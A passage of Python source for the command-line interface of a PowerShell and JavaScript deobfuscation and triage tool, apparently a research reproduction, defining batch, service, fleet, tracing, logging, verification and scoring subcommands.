    Run the long-running HTTP deobfuscation service: asyncio front
    end (``--legacy-threaded`` keeps the old thread-per-connection
    server), persistent worker fleet with optional queue-depth
    autoscaling (``--max-jobs``), sharded content-addressed result
    cache with single-flight dedup and optional disk persistence
    (``--cache-dir`` snapshots + journal, warm-start on restart),
    backpressure (429 with jittered Retry-After) when the admission
    queue fills, /healthz, Prometheus /metrics and the live /statusz
    rolling-window status page, graceful drain on SIGTERM;
    ``--log-file``/``--log-level`` configure the structured event log
    (:mod:`repro.obs.log`).
fleet --instances N [--port P] [serve flags...]
    Run N serve instances behind a consistent-hash router: requests
    route deterministically by script SHA-256 (rendezvous fallback
    when an instance dies), /metrics and /statusz aggregate across
    instances, /healthz reports per-instance readiness; the serve log
    flags are forwarded (each instance logs to
    ``LOG_FILE.instance-K``).
top [--url URL] [--interval S] [--once] [--limit N]
    Live console over a service or fleet ``/statusz`` endpoint:
    rolling 1m/5m/15m request/error/divergence rates, cache-hit
    ratio, latency p50/p95 with the slowest request's trace id,
    pool/queue state, per-language latency and the recent event tail;
    ``--once`` prints a single snapshot and exits.
logs FILE [--follow] [--level L] [--logger PREFIX] [--trace ID] [--tail N]
    Tail and filter a structured JSONL event log written by
    ``--log-file``: by minimum level, logger-name prefix, or trace-id
    prefix; ``--json`` re-emits the matching raw lines for tooling,
    ``--follow`` keeps reading as the file grows.
trace FILE [--check] [--summary] [--id PREFIX]
    Render per-request waterfalls from a span JSONL file written by
    ``--trace-out`` (``deobfuscate``/``batch``/``serve``); ``--check``
    validates span schema and parent linkage instead, for CI gates.
profile FILE [--json] [--timeout S]
    Deobfuscate once and print the telemetry profile (per-phase spans,
    recovery outcomes, tracing hits) instead of the script.
verify FILE [--json] [--fail-on-divergent] [--step-limit N]
    Deobfuscate, then differentially execute the original and the
    result in the recording sandbox and judge semantic equivalence
    (equivalent / divergent with a minimal event diff / inconclusive);
    the check dispatches through the run's ``--language`` front end.
score FILE
    Print the detected obfuscation techniques and the score.
keyinfo FILE
    Print URLs, IPs, .ps1 paths and powershell commands found.
behavior FILE
    Execute in the recording sandbox and print network effects.
report FILE
    Full triage report: deobfuscation + score + behaviour + key info.
tokenize FILE
    Dump the PSParser-style token stream.
parse FILE
    Dump the AST.

``repro --version`` prints the installed package version (also
reported by the service's ``/healthz`` and in batch JSONL headers).

Every command is documented with examples in ``docs/cli.md``; the test
suite enforces that the docs cover each registered subcommand.
"""

import argparse
import sys
import time


def _read(path: str) -> str:
    if path == "-":
        return sys.stdin.read()
    with open(path, "r", encoding="utf-8", errors="replace") as handle:
        return handle.read()


def _policy_name(value: str) -> str:
    """argparse type for ``--policy``: normalize and validate a preset
    name, so ``Verify_Observing`` means ``verify-observing``."""
    from repro.policy import PRESET_NAMES, normalize_policy_name
    from repro.policy.presets import PRESETS

    name = normalize_policy_name(value)
    if name not in PRESETS:
        raise argparse.ArgumentTypeError(
            f"unknown policy {value!r}; expected one of "
            + ", ".join(PRESET_NAMES)
        )
    return name


def _add_policy_flag(parser) -> None:
    """The shared ``--policy NAME`` flag (sandbox policy preset)."""
    from repro.policy import PRESET_NAMES

    parser.add_argument(
        "--policy", metavar="NAME", default=None, type=_policy_name,
        help="sandbox policy preset for script evaluation: "
        + ", ".join(PRESET_NAMES)
        + " (default: recovery-strict)",
    )


def _language_name(value: str) -> str:
    """argparse type for ``--language``: canonicalize a front-end name
    (``ps1`` means ``powershell``, ``javascript`` means ``js``)."""
    from repro.frontend import FrontendError, normalize_language

    try:
        return normalize_language(value)
    except FrontendError as exc:
        raise argparse.ArgumentTypeError(str(exc)) from None


def _add_language_flag(parser) -> None:
    """The shared ``--language NAME`` flag (language front end)."""
    from repro.frontend import frontend_names

    parser.add_argument(
        "--language", metavar="NAME", default=None, type=_language_name,
        help="language front end to parse and recover with: "
        + ", ".join(frontend_names())
        + " (default: powershell; see `repro languages`)",
    )


def _add_log_flags(parser) -> None:
    """The shared event-log flags (``serve``/``fleet``)."""
    parser.add_argument(
        "--log-file", metavar="FILE", default=None,
        help="append structured JSONL events here (read them with "
        "`repro logs FILE`); the in-memory ring behind /statusz is "
        "always on",
    )
    parser.add_argument(
        "--log-level", metavar="LEVEL", default="info",
        choices=("debug", "info", "warning", "error"),
        help="event-log threshold (default: info)",
    )


def _trace_recorder(args):
    """A CLI-rooted SpanRecorder when ``--trace-out`` was given."""
    if not getattr(args, "trace_out", None):
        return None
    from repro.obs.trace import SpanRecorder, TraceContext

    return SpanRecorder(context=TraceContext.new(), process="cli")


def _export_trace(args, recorder) -> None:
    if recorder is None:
        return
    from repro.obs.export import SpanExporter

    with SpanExporter(args.trace_out, service_name="repro-cli") as out:
        out.export(recorder.spans)
    print(
        f"trace     : {recorder.trace_id} -> {args.trace_out}",
        file=sys.stderr,
    )


def _cmd_deobfuscate(args) -> int:
    from repro import Deobfuscator, PipelineOptions

    recorder = _trace_recorder(args)
    tool = Deobfuscator(options=PipelineOptions.from_cli_args(args))
    result = tool.deobfuscate(_read(args.file), recorder=recorder)
    _export_trace(args, recorder)
    if not result.valid_input:
        print(
            f"error: input is not a valid {tool.frontend.name} script",
            file=sys.stderr,
        )
        print(result.script)
        return 1
    if result.timed_out:
        print("warning: deadline hit, output is a partial result",
              file=sys.stderr)
    if args.show_layers:
        for index, layer in enumerate(result.layers):
            print(f"# --- layer {index + 1} ---")
            print(layer)
        print("# --- final ---")
    print(result.script)
    if args.stats:
        from repro.obs import render_profile

        print(render_profile(result), file=sys.stderr)
    return 0


def _cmd_profile(args) -> int:
    import json

    from repro import Deobfuscator, PipelineOptions
    from repro.obs import render_profile

    tool = Deobfuscator(options=PipelineOptions.from_cli_args(args))
    result = tool.deobfuscate(_read(args.file))
    if args.json:
        payload = {
            "valid_input": result.valid_input,
            "timed_out": result.timed_out,
            "changed": result.changed,
            "iterations": result.iterations,
            "layers_unwrapped": result.layers_unwrapped,
            "elapsed_seconds": round(result.elapsed_seconds, 6),
            "stats": result.stats.to_dict(),
        }
        print(json.dumps(payload, sort_keys=True))
    else:
        print(render_profile(result))
    return 0 if result.valid_input else 1


def _dedup_groups(paths):
    """Group paths by content hash: ``{first_path: [duplicate, ...]}``.

    Unreadable files land in their own group (the pool will surface
    the read error per-sample).  Returns the kept (first-seen) paths
    in input order plus the duplicates map.
    """
    import hashlib

    first_by_digest = {}
    duplicates = {}
    kept = []
    for path in paths:
        try:
            with open(path, "rb") as handle:
                digest = hashlib.sha256(handle.read()).hexdigest()
        except OSError:
            digest = None
        if digest is not None and digest in first_by_digest:
            duplicates.setdefault(first_by_digest[digest], []).append(path)
            continue
        if digest is not None:
            first_by_digest[digest] = path
        kept.append(path)
    return kept, duplicates


def _export_batch_trace(exporter, sample_spans, record) -> None:
    """Close the sample's parent span and export both sides of its
    trace; the worker spans are popped off the JSONL record (the
    ``trace_id`` stays so summaries can cite exemplars)."""
    worker_spans = record.pop("trace_spans", None)
    entry = sample_spans.pop(record.get("path"), None)
    if entry is not None:
        recorder, span = entry
        status = {"error": "error", "timeout": "aborted"}.get(
            record.get("status"), "ok"
        )
        recorder.end(span, status=status)
        exporter.export(recorder.spans)
    if worker_spans:
        exporter.export_dicts(worker_spans)


def _cmd_batch(args) -> int:
    from repro.batch import (
        BatchPool,
        ResultWriter,
        batch_header,
        completed_paths,
        discover,
        make_tasks,
        render_summary,
        summarize,
    )

    paths = discover(args.inputs, glob=args.glob)
    if not paths:
        print("error: no samples found", file=sys.stderr)
        return 1

    skipped = 0
    if args.resume:
        if not args.output:
            print("error: --resume requires --output", file=sys.stderr)
            return 2
        done = completed_paths(args.output)
        kept = [path for path in paths if path not in done]
        skipped = len(paths) - len(kept)
        paths = kept

    duplicates = {}
    if args.dedup:
        paths, duplicates = _dedup_groups(paths)

    from repro import PipelineOptions

    tasks = make_tasks(
        paths,
        options=PipelineOptions.from_cli_args(args),
        store_script=args.store_scripts,
        verify=args.verify,
    )

    from repro.batch.task import resolve_worker

    try:
        resolve_worker(args.worker)
    except Exception as exc:  # noqa: BLE001 — import/spec errors vary
        print(f"error: invalid --worker {args.worker!r}: {exc}",
              file=sys.stderr)
        return 2

    exporter = None
    sample_spans = {}
    if args.trace_out:
        from repro.obs.export import SpanExporter
        from repro.obs.trace import SpanRecorder, TraceContext

        exporter = SpanExporter(args.trace_out, service_name="repro-batch")
        # One trace per sample, rooted in this (parent) process: the
        # ``batch_sample`` span opens at submission, so queueing time
        # shows up as the gap before the worker span in the waterfall.
        for task in tasks:
            recorder = SpanRecorder(
                context=TraceContext.new(), process="batch"
            )
            span = recorder.begin("batch_sample", path=task.path)
            task.trace = recorder.current_context().child().to_dict()
            sample_spans[task.path] = (recorder, span)

    pool = BatchPool(
        jobs=args.jobs,
        timeout=args.timeout,
        retries=args.retries,
        worker=args.worker,
    )
    writer = (
        ResultWriter(path=args.output)
        if args.output
        else ResultWriter(stream=sys.stdout)
    )
    records = []
    started = time.monotonic()
    with writer:
        writer.write(batch_header(dedup=bool(args.dedup)))
        for record in pool.run(tasks):
            if exporter is not None:
                _export_batch_trace(exporter, sample_spans, record)
            writer.write(record)
            records.append(record)
            for duplicate in duplicates.get(record["path"], ()):
                copy = dict(record)
                copy["path"] = duplicate
                copy["cache_hit"] = True
                writer.write(copy)
                records.append(copy)
    wall = time.monotonic() - started
    if exporter is not None:
        exporter.close()
        print(
            f"trace     : {exporter.exported} spans -> {args.trace_out}",
            file=sys.stderr,
        )

    summary = summarize(
        records, wall_seconds=wall, worker_restarts=pool.restarts
    )
    summary_out = sys.stdout if args.output else sys.stderr
    if skipped:
        print(f"resumed   : {skipped} samples already done, skipped",
              file=summary_out)
    print(render_summary(summary), file=summary_out)
    failures = summary["status_counts"]["error"]
    return 0 if not failures or args.exit_zero else 3


def _cmd_serve(args) -> int:
    from repro.obs.log import configure_logging
    from repro.service import ServiceConfig

    # The service always runs with the event log on: the ring buffer
    # feeds /statusz's tail, the optional file sink feeds `repro logs`.
    configure_logging(level=args.log_level, path=args.log_file)
    default_options = {
        "rename": not args.no_rename,
        "reformat": not args.no_reformat,
    }
    if args.policy:
        default_options["policy"] = args.policy
    if args.language:
        default_options["language"] = args.language
    config = ServiceConfig(
        jobs=args.jobs or 2,
        timeout=args.timeout,
        queue_limit=args.queue_limit,
        cache_max_entries=args.cache_entries,
        cache_max_bytes=args.cache_bytes,
        cache_shards=args.cache_shards,
        cache_dir=args.cache_dir,
        max_jobs=args.max_jobs,
        default_options=default_options,
        worker=args.worker,
        trace_path=args.trace_out,
    )
    if args.legacy_threaded:
        from repro.service.http import run_server
    else:
        from repro.service.aserver import run_async_server as run_server
    return run_server(
        config,
        host=args.host,
        port=args.port,
        port_file=args.port_file,
        quiet=not args.access_log,
    )


def _cmd_fleet(args) -> int:
    from repro.obs.log import configure_logging
    from repro.service.fleet import run_fleet

    # Router-side event log (routing/failover decisions); instances
    # get the same flags forwarded, each with its own file suffix.
    configure_logging(level=args.log_level, path=args.log_file)
    serve_args = [
        "--jobs", str(args.jobs),
        "--timeout", str(args.timeout),
        "--queue-limit", str(args.queue_limit),
        "--cache-entries", str(args.cache_entries),
        "--cache-bytes", str(args.cache_bytes),
        "--cache-shards", str(args.cache_shards),
        "--log-level", args.log_level,
    ]
    if args.max_jobs:
        serve_args += ["--max-jobs", str(args.max_jobs)]
    if args.no_rename:
        serve_args.append("--no-rename")
    if args.no_reformat:
        serve_args.append("--no-reformat")
    if args.policy:
        serve_args += ["--policy", args.policy]
    if args.language:
        serve_args += ["--language", args.language]
    if args.worker != "repro.batch.task:run_one":
        serve_args += ["--worker", args.worker]
    if args.legacy_threaded:
        serve_args.append("--legacy-threaded")
    return run_fleet(
        args.instances,
        host=args.host,
        port=args.port,
        port_file=args.port_file,
        serve_args=serve_args,
        cache_root=args.cache_root,
        workdir=args.workdir,
        quiet=not args.access_log,
        serve_log_file=args.log_file,
    )


def _format_event_line(data) -> str:
    """One human-readable line for a serialized LogEvent dict."""
    stamp = time.strftime(
        "%H:%M:%S", time.localtime(float(data.get("ts") or 0.0))
    )
    level = str(data.get("level", "info")).upper()
    fields = data.get("fields") or {}
    extras = " ".join(
        f"{key}={value}" for key, value in sorted(fields.items())
    )
    trace = data.get("trace_id")
    parts = [
        stamp,
        f"{level:<7}",
        f"{data.get('logger', ''):<18}",
        str(data.get("message", "")),
    ]
    if extras:
        parts.append(extras)
    if trace:
        parts.append(f"trace={trace}")
    return " ".join(parts)


def _render_statusz(url: str, payload, tail_limit: int = 8) -> str:
    """The ``repro top`` frame for one ``/statusz`` payload."""
    lines = []
    pool = payload.get("pool") or {}
    queue = payload.get("queue") or {}
    restarts = pool.get("restarts") or {}
    restart_text = (
        " ".join(f"{k}={v}" for k, v in sorted(restarts.items()))
        or "none"
    )
    lines.append(
        f"repro top — {url}  instances={payload.get('instances', 1)}  "
        f"uptime={payload.get('uptime_seconds', 0):.0f}s  "
        f"draining={'yes' if payload.get('draining') else 'no'}"
    )
    lines.append(
        f"pool: workers={pool.get('workers', 0)}/"
        f"{pool.get('size', 0)} (restarts: {restart_text})  "
        f"queue: {queue.get('depth', 0)}/{queue.get('limit', 0)}  "
        f"cache-hit: {payload.get('cache_hit_ratio', 0.0):.1%}"
    )
    lines.append("")
    lines.append(
        f"{'window':<8}{'req':>7}{'rate/s':>9}{'err%':>7}{'div%':>7}"
        f"{'cache%':>8}{'p50ms':>9}{'p95ms':>9}  slowest trace"
    )
    windows = payload.get("windows") or {}
    for name in ("1m", "5m", "15m"):
        entry = windows.get(name)
        if not entry:
            continue
        exemplar = (entry.get("exemplar") or {}).get("trace_id", "-")
        lines.append(
            f"{name:<8}{entry.get('requests', 0):>7}"
            f"{entry.get('request_rate', 0.0):>9.2f}"
            f"{entry.get('error_rate', 0.0) * 100:>7.1f}"
            f"{entry.get('divergence_rate', 0.0) * 100:>7.1f}"
            f"{entry.get('cache_hit_ratio', 0.0) * 100:>8.1f}"
            f"{entry.get('latency_p50_ms', 0.0):>9.1f}"
            f"{entry.get('latency_p95_ms', 0.0):>9.1f}  {exemplar}"
        )
    latency_by = payload.get("latency_by") or {}
    if latency_by:
        lines.append("")
        lines.append("latency by language|policy:")
        for label, entry in sorted(latency_by.items()):
            lines.append(
                f"  {label:<36} n={entry.get('count', 0):<7} "
                f"p50={entry.get('p50_ms', 0.0):.1f}ms "
                f"p95={entry.get('p95_ms', 0.0):.1f}ms"
            )
    techniques = payload.get("techniques_top") or []
    if techniques:
        lines.append("")
        lines.append(
            "techniques: "
            + " ".join(
                f"{row['technique']}={row['count']}"
                for row in techniques
            )
        )
    tail = payload.get("log_tail") or []
    if tail:
        lines.append("")
        lines.append("recent events:")
        for event in tail[-max(1, tail_limit):]:
            lines.append("  " + _format_event_line(event))
    return "\n".join(lines)


def _cmd_top(args) -> int:
    import json
    import urllib.error
    import urllib.request

    url = (args.url or f"http://127.0.0.1:{args.port}").rstrip("/")

    def fetch():
        with urllib.request.urlopen(
            url + "/statusz", timeout=10.0
        ) as response:
            return json.loads(response.read())

    while True:
        try:
            payload = fetch()
        except (OSError, ValueError, urllib.error.URLError) as exc:
            print(f"error: cannot fetch {url}/statusz: {exc}",
                  file=sys.stderr)
            if args.once:
                return 1
            time.sleep(args.interval)
            continue
        frame = _render_statusz(url, payload, tail_limit=args.limit)
        if args.once:
            print(frame)
            return 0
        # Clear + home, like top(1); one frame per interval.
        sys.stdout.write("\x1b[2J\x1b[H" + frame + "\n")
        sys.stdout.flush()
        try:
            time.sleep(args.interval)
        except KeyboardInterrupt:  # pragma: no cover - interactive
            return 0


def _cmd_logs(args) -> int:
    import json

    from repro.obs.log import LEVELS, iter_events

    threshold = LEVELS[args.level] if args.level else 0

    def matches(event) -> bool:
        if LEVELS.get(event.level, 0) < threshold:
            return False
        if args.logger and not event.logger.startswith(args.logger):
            return False
        if args.trace and not (
            event.trace_id or ""
        ).startswith(args.trace):
            return False
        return True

    def emit(event) -> None:
        if args.json:
            print(json.dumps(event.to_dict(), sort_keys=True))
        else:
            print(_format_event_line(event.to_dict()))

    try:
        matched = [e for e in iter_events(args.file) if matches(e)]
    except OSError as exc:
        print(f"error: cannot read {args.file}: {exc}", file=sys.stderr)
        return 1
    if args.tail:
        matched = matched[-args.tail:]
    for event in matched:
        emit(event)
    if not args.follow:
        return 0
    # Follow mode: poll for appended lines (rotation aside — a rotated
    # file keeps its old handle; restart `repro logs` to pick up the
    # fresh one).
    from repro.obs.log import LogEvent

    with open(args.file, "r", encoding="utf-8") as handle:
        handle.seek(0, 2)
        try:
            while True:
                line = handle.readline()
                if not line:
                    time.sleep(0.25)
                    continue
                line = line.strip()
                if not line:
                    continue
                try:
                    data = json.loads(line)
                except ValueError:
                    continue
                if not isinstance(data, dict):
                    continue
                event = LogEvent.from_dict(data)
                if matches(event):
                    emit(event)
        except KeyboardInterrupt:  # pragma: no cover - interactive
            return 0


def _cmd_trace(args) -> int:
    from repro.obs.export import (
        read_raw_lines,
        read_spans,
        render_waterfall,
        summarize_traces,
        validate_spans,
    )

    try:
        raw = read_raw_lines(args.file)
    except OSError as exc:
        print(f"error: cannot read {args.file}: {exc}", file=sys.stderr)
        return 1
    if not raw:
        print(f"error: no spans in {args.file}", file=sys.stderr)
        return 1

    if args.check:
        problems = validate_spans(raw)
        traces = len({line.get("traceId") for line in raw})
        if problems:
            for problem in problems:
                print(problem, file=sys.stderr)
            print(
                f"error: {len(problems)} problem(s) across {len(raw)} "
                f"span(s)",
                file=sys.stderr,
            )
            return 5
        print(f"ok: {len(raw)} span(s) in {traces} trace(s), "
              f"schema version consistent, parentage intact")
        return 0

    spans = read_spans(args.file)
    if args.id:
        spans = [s for s in spans if s.trace_id.startswith(args.id)]
        if not spans:
            print(f"error: no trace matching {args.id!r}", file=sys.stderr)
            return 1
    if args.summary:
        for trace_id, count, wall in summarize_traces(spans):
            print(f"{trace_id}  {count:>4} span(s)  {wall * 1000:9.1f}ms")
    else:
        print(render_waterfall(spans), end="")
    return 0


def _cmd_verify(args) -> int:
    import json

    from repro import Deobfuscator, PipelineOptions

    tool = Deobfuscator(options=PipelineOptions.from_cli_args(args))
    result = tool.deobfuscate(_read(args.file))
    # The differential executions default to verify-observing; an
    # explicit --policy applies to them as well as to the pipeline.
    # Each front end brings its own differential runner (PowerShell:
    # repro.verify; JS: repro.frontend.js.runner).
    verdict = tool.frontend.verify(
        result, step_limit=args.step_limit, policy=args.policy
    )

    if args.json:
        payload = verdict.to_dict()
        payload["changed"] = result.changed
        print(json.dumps(payload, sort_keys=True))
    else:
        print(f"verdict   : {verdict.verdict}")
        if verdict.reason:
            print(f"reason    : {verdict.reason}")
        print(
            f"events    : original={verdict.original_events} "
            f"deobfuscated={verdict.candidate_events}"
        )
        for line in verdict.diff:
            print(f"  {line}")
    if verdict.verdict == "divergent" and args.fail_on_divergent:
        return 4
    return 0


def _cmd_languages(args) -> int:
    import json

    from repro.frontend import available_frontends

    rows = [frontend.describe() for frontend in available_frontends()]
    if args.json:
        print(json.dumps(rows, sort_keys=True))
        return 0
    for row in rows:
        capabilities = " ".join(
            f"{name}={'yes' if on else 'no'}"
            for name, on in sorted(row["capabilities"].items())
        )
        aliases = ", ".join(row["aliases"]) or "-"
        extensions = " ".join(row["file_extensions"]) or "-"
        print(f"{row['id']:<12} {row['name']}")
        print(f"{'':<12} aliases: {aliases}")
        print(f"{'':<12} extensions: {extensions}")
        print(f"{'':<12} {capabilities}")
    return 0


def _cmd_score(args) -> int:
    from repro.scoring import score_script
    from repro.scoring.detectors import TECHNIQUE_LEVELS

    report = score_script(_read(args.file))
    for name in sorted(report.techniques):
        print(f"L{TECHNIQUE_LEVELS[name]} {name}")
    print(f"score: {report.score}")
    return 0


def _cmd_keyinfo(args) -> int:
    from repro.analysis import extract_key_info

    info = extract_key_info(_read(args.file))
    for label, values in (
        ("url", info.urls),
        ("ip", info.ips),
        ("ps1", info.ps1_files),
        ("powershell", info.powershell_commands),
    ):
        for value in sorted(values):
            print(f"{label}\t{value}")
    return 0


def _cmd_behavior(args) -> int:
    from repro.verify import observe_behavior

    report = observe_behavior(
        _read(args.file), collect_events=False, policy=args.policy
    )
    for effect in report.effects:
        print(f"{effect.kind}\t{effect.target}")
    if report.audit is not None:
        for capability, count in sorted(
            report.audit.denial_counts().items()
        ):
            print(f"denied:{capability}\t{count}", file=sys.stderr)
    if report.error:
        print(f"error: {report.error}", file=sys.stderr)
    return 0


def _cmd_report(args) -> int:
    from repro.analysis.report import build_report

    report = build_report(_read(args.file))
    print(report.render())
    return 0


def _cmd_tokenize(args) -> int:
    from repro.pslang import tokenize

    for token in tokenize(_read(args.file)):
        print(
            f"{token.start:>6} {token.length:>4} "
            f"{token.type.value:<20} {token.content!r}"
        )
    return 0


def _cmd_parse(args) -> int:
    from repro.pslang import parse

    source = _read(args.file)
    ast = parse(source)

    def dump(node, depth=0):
        text = source[node.start:node.end]
        preview = repr(text[:50])
        print(f"{'  ' * depth}{node.type_name} {preview}")
        for child in node.children():
            dump(child, depth + 1)

    dump(ast)
    return 0


def build_parser() -> argparse.ArgumentParser:
    """Build the ``repro`` argument parser (exposed for docs tooling)."""
    from repro import package_version

    parser = argparse.ArgumentParser(
        prog="repro",
        description=(
            "Invoke-Deobfuscation (DSN 2022) reproduction: AST-based, "
            "semantics-preserving PowerShell deobfuscation"
        ),
    )
    parser.add_argument(
        "--version", action="version",
        version=f"%(prog)s {package_version()}",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("deobfuscate", help="deobfuscate a script")
    p.add_argument("file", help="script path, or - for stdin")
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.add_argument("--show-layers", action="store_true")
    p.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative deadline; on expiry print the partial result",
    )
    p.add_argument(
        "--stats", action="store_true",
        help="print the run's telemetry profile to stderr",
    )
    p.add_argument(
        "--trace-out", metavar="FILE", default=None,
        help="append the run's trace spans to FILE as OTel-style JSONL "
        "(render with `repro trace FILE`)",
    )
    _add_policy_flag(p)
    _add_language_flag(p)
    p.set_defaults(func=_cmd_deobfuscate)

    p = sub.add_parser(
        "languages",
        help="list the registered language front ends",
    )
    p.add_argument(
        "--json", action="store_true",
        help="emit the table as machine-readable JSON",
    )
    p.set_defaults(func=_cmd_languages)

    p = sub.add_parser(
        "profile",
        help="deobfuscate once and print the telemetry profile",
    )
    p.add_argument("file", help="script path, or - for stdin")
    p.add_argument(
        "--json", action="store_true",
        help="emit machine-readable JSON instead of the text profile",
    )
    p.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative deadline; a timed-out run still reports the "
        "spans of every phase that ran",
    )
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.set_defaults(func=_cmd_profile)

    p = sub.add_parser(
        "batch",
        help="deobfuscate a corpus across a worker pool, streaming JSONL",
    )
    p.add_argument(
        "inputs", nargs="+",
        help="directories (searched for --glob), files, or - for a "
        "newline-separated path list on stdin",
    )
    p.add_argument(
        "--jobs", "-j", type=int, default=None, metavar="N",
        help="worker processes (default: CPU count)",
    )
    p.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-sample wall-clock budget; over-budget samples are "
        "recorded as status=timeout",
    )
    p.add_argument(
        "--output", "-o", metavar="FILE",
        help="append JSONL records here instead of stdout",
    )
    p.add_argument(
        "--resume", action="store_true",
        help="skip samples already recorded in --output",
    )
    p.add_argument(
        "--retries", type=int, default=1, metavar="N",
        help="re-queue a sample whose worker crashed up to N times",
    )
    p.add_argument(
        "--glob", default="*.ps1", metavar="PATTERN",
        help="filename pattern for directory inputs (default: *.ps1)",
    )
    p.add_argument(
        "--store-scripts", action="store_true",
        help="embed the deobfuscated script in each record",
    )
    p.add_argument(
        "--dedup", action="store_true",
        help="hash each sample and run each unique content once; "
        "duplicates reuse the first result (cache_hit: true)",
    )
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.add_argument(
        "--verify", action="store_true",
        help="differentially verify each sample's deobfuscation "
        "(semantic-equivalence verdict in every record and in the "
        "summary)",
    )
    p.add_argument(
        "--exit-zero", action="store_true",
        help="exit 0 even when samples errored (default: exit 3)",
    )
    p.add_argument(
        "--worker", default="repro.batch.task:run_one",
        metavar="MODULE:FUNC",
        help="per-sample worker function (advanced; used by the tests "
        "to inject faults)",
    )
    p.add_argument(
        "--trace-out", metavar="FILE", default=None,
        help="export one trace per sample (parent batch_sample span + "
        "the worker's pipeline spans) to FILE as JSONL",
    )
    _add_policy_flag(p)
    _add_language_flag(p)
    p.set_defaults(func=_cmd_batch)

    p = sub.add_parser(
        "serve",
        help="run the long-running HTTP deobfuscation service",
    )
    p.add_argument(
        "--host", default="127.0.0.1",
        help="bind address (default: 127.0.0.1)",
    )
    p.add_argument(
        "--port", type=int, default=8765,
        help="bind port; 0 picks an ephemeral port (default: 8765)",
    )
    p.add_argument(
        "--port-file", metavar="FILE", default=None,
        help="write the bound port here once listening (for scripts "
        "that use --port 0)",
    )
    p.add_argument(
        "--jobs", "-j", type=int, default=2, metavar="N",
        help="persistent worker processes (default: 2)",
    )
    p.add_argument(
        "--timeout", type=float, default=30.0, metavar="SECONDS",
        help="per-request worker budget; hung requests are SIGKILLed "
        "past it (default: 30)",
    )
    p.add_argument(
        "--queue-limit", type=int, default=64, metavar="N",
        help="max queued+running pipeline executions before requests "
        "get 429 Retry-After (default: 64)",
    )
    p.add_argument(
        "--cache-entries", type=int, default=4096, metavar="N",
        help="result cache capacity in entries; 0 disables storage "
        "(default: 4096)",
    )
    p.add_argument(
        "--cache-bytes", type=int, default=256 * 1024 * 1024, metavar="B",
        help="result cache byte budget (default: 256 MiB)",
    )
    p.add_argument(
        "--cache-shards", type=int, default=8, metavar="N",
        help="independent result-cache shards keyed by script hash "
        "(default: 8)",
    )
    p.add_argument(
        "--cache-dir", metavar="DIR", default=None,
        help="persist the result cache here (snapshot + append-only "
        "journal); a restarted instance warm-starts from it",
    )
    p.add_argument(
        "--max-jobs", type=int, default=None, metavar="N",
        help="autoscale the worker pool between --jobs and N on "
        "admission queue depth (default: no autoscaling)",
    )
    p.add_argument(
        "--legacy-threaded", action="store_true",
        help="use the original thread-per-connection HTTP server "
        "instead of the asyncio front end",
    )
    p.add_argument(
        "--access-log", action="store_true",
        help="log one line per HTTP request to stderr",
    )
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.add_argument(
        "--worker", default="repro.batch.task:run_one",
        metavar="MODULE:FUNC",
        help="per-request worker function (advanced; used by the "
        "tests to inject faults)",
    )
    p.add_argument(
        "--trace-out", metavar="FILE", default=None,
        help="export every request's trace spans to FILE as JSONL "
        "(requests always carry a trace_id; this enables the file)",
    )
    _add_log_flags(p)
    _add_policy_flag(p)
    _add_language_flag(p)
    p.set_defaults(func=_cmd_serve)

    p = sub.add_parser(
        "fleet",
        help="run N serve instances behind a consistent-hash router",
    )
    p.add_argument(
        "--instances", "-n", type=int, default=2, metavar="N",
        help="service instances to spawn (default: 2)",
    )
    p.add_argument(
        "--host", default="127.0.0.1",
        help="router bind address (default: 127.0.0.1)",
    )
    p.add_argument(
        "--port", type=int, default=8765,
        help="router bind port; 0 picks an ephemeral port "
        "(default: 8765)",
    )
    p.add_argument(
        "--port-file", metavar="FILE", default=None,
        help="write the router's bound port here once listening",
    )
    p.add_argument(
        "--cache-root", metavar="DIR", default=None,
        help="root for per-instance persisted caches "
        "(DIR/instance-K; default: under the fleet workdir)",
    )
    p.add_argument(
        "--workdir", metavar="DIR", default=None,
        help="working directory for port files and instance logs "
        "(default: a temp dir)",
    )
    p.add_argument(
        "--jobs", "-j", type=int, default=2, metavar="N",
        help="worker processes per instance (default: 2)",
    )
    p.add_argument(
        "--max-jobs", type=int, default=None, metavar="N",
        help="per-instance worker-pool autoscale ceiling",
    )
    p.add_argument(
        "--timeout", type=float, default=30.0, metavar="SECONDS",
        help="per-request worker budget per instance (default: 30)",
    )
    p.add_argument(
        "--queue-limit", type=int, default=64, metavar="N",
        help="per-instance admission queue limit (default: 64)",
    )
    p.add_argument(
        "--cache-entries", type=int, default=4096, metavar="N",
        help="per-instance result cache entries (default: 4096)",
    )
    p.add_argument(
        "--cache-bytes", type=int, default=256 * 1024 * 1024, metavar="B",
        help="per-instance result cache byte budget (default: 256 MiB)",
    )
    p.add_argument(
        "--cache-shards", type=int, default=8, metavar="N",
        help="result-cache shards per instance (default: 8)",
    )
    p.add_argument(
        "--legacy-threaded", action="store_true",
        help="run instances on the thread-per-connection server",
    )
    p.add_argument(
        "--access-log", action="store_true",
        help="log one line per routed request to stderr",
    )
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.add_argument(
        "--worker", default="repro.batch.task:run_one",
        metavar="MODULE:FUNC",
        help="per-request worker function for every instance",
    )
    _add_log_flags(p)
    _add_policy_flag(p)
    _add_language_flag(p)
    p.set_defaults(func=_cmd_fleet)

    p = sub.add_parser(
        "top",
        help="live console over a service/fleet /statusz endpoint",
    )
    p.add_argument(
        "--url", metavar="URL", default=None,
        help="service or fleet base URL "
        "(default: http://127.0.0.1:PORT)",
    )
    p.add_argument(
        "--port", type=int, default=8765,
        help="port for the default URL (default: 8765)",
    )
    p.add_argument(
        "--interval", type=float, default=2.0, metavar="SECONDS",
        help="refresh interval (default: 2)",
    )
    p.add_argument(
        "--once", action="store_true",
        help="print one snapshot and exit instead of refreshing",
    )
    p.add_argument(
        "--limit", type=int, default=8, metavar="N",
        help="recent log events shown per frame (default: 8)",
    )
    p.set_defaults(func=_cmd_top)

    p = sub.add_parser(
        "logs",
        help="tail and filter a structured JSONL event log",
    )
